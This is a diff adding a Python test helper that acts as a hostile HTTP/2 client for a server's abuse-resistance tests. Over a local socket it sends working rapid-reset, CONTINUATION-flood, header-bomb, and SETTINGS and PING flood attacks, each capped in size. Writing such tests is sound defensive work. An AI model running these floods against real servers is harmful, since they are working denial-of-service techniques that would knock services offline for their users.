@@ -1,0 +1,148 @@
+"""A hostile HTTP/2 client for Herald's abuse-resistance tests, over a raw socket (hyperframe and hpack, the
+frame and header codecs of python-h2), so that it can send what a well-behaved library never would.
+
+  hostile_client.py ATTACK --port P [--count N]
+ATTACK: rapid_reset, continuation, header_bomb, settings_flood, ping_flood.
+Prints one line: "closed after N" when the server ended the connection (GOAWAY or close) before the attack was
+done, "done N" when it never did, "reset" when the server reset the attacking stream (header_bomb). Every loop is
+bounded by --count and by a 20 s socket timeout.
+"""
+import argparse
+import socket
+import sys
+import time
+
+import hpack
+from hyperframe.frame import (ContinuationFrame, DataFrame, Frame, GoAwayFrame, HeadersFrame, PingFrame,
+                              RstStreamFrame, SettingsFrame)
+
+PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
+REQUEST = [(":method", "POST"), (":scheme", "http"), (":path", "/herald.bench.v1.Bench/Echo"), (":authority", "x"),
+           ("content-type", "application/grpc"), ("te", "trailers")]
+
+
+def connect(port):
+    sock = socket.create_connection(("127.0.0.1", port))
+    sock.settimeout(20)
+    sock.sendall(PREFACE + SettingsFrame(0).serialize())
+    return sock
+
+
+def server_ended(sock):
+    """True when the server sent GOAWAY or closed; reads what is waiting without blocking long."""
+    sock.settimeout(0.001)
+    try:
+        while True:
+            data = sock.recv(65536)
+            if not data:
+                return True
+            if find_frame(data, GoAwayFrame):
+                return True
+    except (BlockingIOError, socket.timeout):
+        return False
+    except (ConnectionResetError, BrokenPipeError):
+        return True
+    finally:
+        sock.settimeout(20)
+
+
+def find_frame(data, kind):
+    offset = 0
+    while offset + 9 <= len(data):
+        frame, length = Frame.parse_frame_header(memoryview(data[offset:offset + 9]))
+        if isinstance(frame, kind):
+            return True
+        offset += 9 + length
+    return False
+
+
+def send(sock, payload):
+    try:
+        sock.sendall(payload)
+        return True
+    except (ConnectionResetError, BrokenPipeError):
+        return False
+
+
+def rapid_reset(port, count):
+    sock, encoder = connect(port), hpack.Encoder()
+    for i in range(count):
+        stream = 1 + 2 * i
+        headers = HeadersFrame(stream, encoder.encode(REQUEST), flags=["END_HEADERS"])
+        if not send(sock, headers.serialize() + RstStreamFrame(stream, error_code=8).serialize()):
+            return f"closed after {i}"
+        if i % 200 == 0 and server_ended(sock):
+            return f"closed after {i}"
+    return f"done {count}"
+
+
+def continuation(port, count):
+    sock, encoder = connect(port), hpack.Encoder()
+    if not send(sock, HeadersFrame(1, encoder.encode(REQUEST)).serialize()):  # no END_HEADERS
+        return "closed after 0"
+    for i in range(count):
+        block = encoder.encode([(f"x-junk-{i}", "y" * 100)])
+        if not send(sock, ContinuationFrame(1, block).serialize()):
+            return f"closed after {i}"
+        if i % 50 == 0 and server_ended(sock):
+            return f"closed after {i}"
+    return f"done {count}"
+
+
+def header_bomb(port, count):
+    sock, encoder = connect(port), hpack.Encoder()
+    block = encoder.encode(REQUEST + [(f"x-bomb-{i}", "z" * 8000) for i in range(count)])
+    chunks = [block[i:i + 16000] for i in range(0, len(block), 16000)]
+    frames = HeadersFrame(1, chunks[0], flags=["END_HEADERS"] if len(chunks) == 1 else []).serialize()
+    for index, chunk in enumerate(chunks[1:], 1):
+        frames += ContinuationFrame(1, chunk, flags=["END_HEADERS"] if index == len(chunks) - 1 else []).serialize()
+    frames += DataFrame(1, b"\x00\x00\x00\x00\x00", flags=["END_STREAM"]).serialize()
+    if not send(sock, frames):
+        return "closed after 0"
+    deadline = time.time() + 10
+    while time.time() < deadline:
+        try:
+            data = sock.recv(65536)
+        except socket.timeout:
+            break
+        if not data:
+            return "closed after 0"
+        if find_frame(data, RstStreamFrame):
+            return "reset"
+        if find_frame(data, GoAwayFrame):
+            return "closed after 0"
+    return f"done {count}"
+
+
+def flood(port, count, frame):
+    """Frames that each ask for an acknowledgement, without ever reading the acknowledgements."""
+    sock = connect(port)
+    sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
+    payload = frame.serialize() * 100
+    for i in range(0, count, 100):
+        if not send(sock, payload):
+            return f"closed after {i}"
+    # The server stops reading a peer that does not read its acks; give it a moment, then check.
+    time.sleep(1)
+    return f"closed after {count}" if server_ended(sock) else f"done {count}"
+
+
+parser = argparse.ArgumentParser()
+parser.add_argument("attack", choices=["rapid_reset", "continuation", "header_bomb", "settings_flood", "ping_flood"])
+parser.add_argument("--port", type=int, required=True)
+parser.add_argument("--count", type=int, default=100000)
+args = parser.parse_args()
+try:
+    if args.attack == "rapid_reset":
+        print(rapid_reset(args.port, args.count), flush=True)
+    elif args.attack == "continuation":
+        print(continuation(args.port, args.count), flush=True)
+    elif args.attack == "header_bomb":
+        print(header_bomb(args.port, args.count), flush=True)
+    elif args.attack == "settings_flood":
+        print(flood(args.port, args.count, SettingsFrame(0, settings={SettingsFrame.ENABLE_PUSH: 0})), flush=True)
+    else:
+        print(flood(args.port, args.count, PingFrame(0, opaque_data=b"12345678")), flush=True)
+except socket.timeout:
+    print("timeout", flush=True)
+    sys.exit(1)
